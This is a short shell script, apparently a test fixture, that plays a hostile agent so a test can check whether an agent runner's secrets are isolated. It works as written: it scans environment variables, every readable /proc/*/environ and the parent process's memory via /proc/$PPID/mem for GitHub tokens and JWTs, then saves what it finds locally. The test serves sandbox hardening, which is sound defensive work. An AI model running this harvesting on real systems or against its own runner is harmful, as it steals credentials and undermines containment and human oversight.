#!/bin/sh
# thief.sh: an agent that hunts for the runner's secrets (GitHub tokens
# ghs_..., JWTs eyJ...) and writes whatever it finds to $LOOT, which the
# test keeps outside the loop root: its own environment, every readable
# /proc/*/environ, and the memory of the runner ($PPID) through
# /proc/$PPID/maps and /proc/$PPID/mem. It lists in $LOOT.readable which
# of the runner's environ, maps and mem it could open, writes the runner's
# pid to $LOOT.pid, and then waits (at most ten seconds) for $LOOT.go, so
# that the test can look at the runner while the agent runs.
cat >/dev/null
loot=${LOOT:?}
hunt() { grep -a -o -E 'ghs_[A-Za-z0-9]+|eyJ[A-Za-z0-9]+' 2>/dev/null; }
{
	echo "== own environment"
	env | hunt
	for f in /proc/[0-9]*/environ; do
		echo "== $f"
		{ tr '\0' '\n' <"$f"; } 2>/dev/null | hunt
	done
	echo "== memory of $PPID"
	cat /proc/$PPID/maps 2>/dev/null | while read -r range perms rest; do
		case $perms in rw*) ;; *) continue ;; esac
		start=$((0x${range%-*})) end=$((0x${range#*-}))
		dd if=/proc/$PPID/mem bs=4096 skip=$((start / 4096)) count=$(((end - start) / 4096)) 2>/dev/null | hunt
	done
} >"$loot" 2>&1
for f in environ maps mem; do
	if head -c 1 /proc/$PPID/$f >/dev/null 2>&1; then echo "$f" >>"$loot.readable"; fi
done
echo $PPID >"$loot.pid"
i=0
while [ ! -e "$loot.go" ] && [ $i -lt 1000 ]; do sleep 0.01; i=$((i+1)); done
echo "looked around"
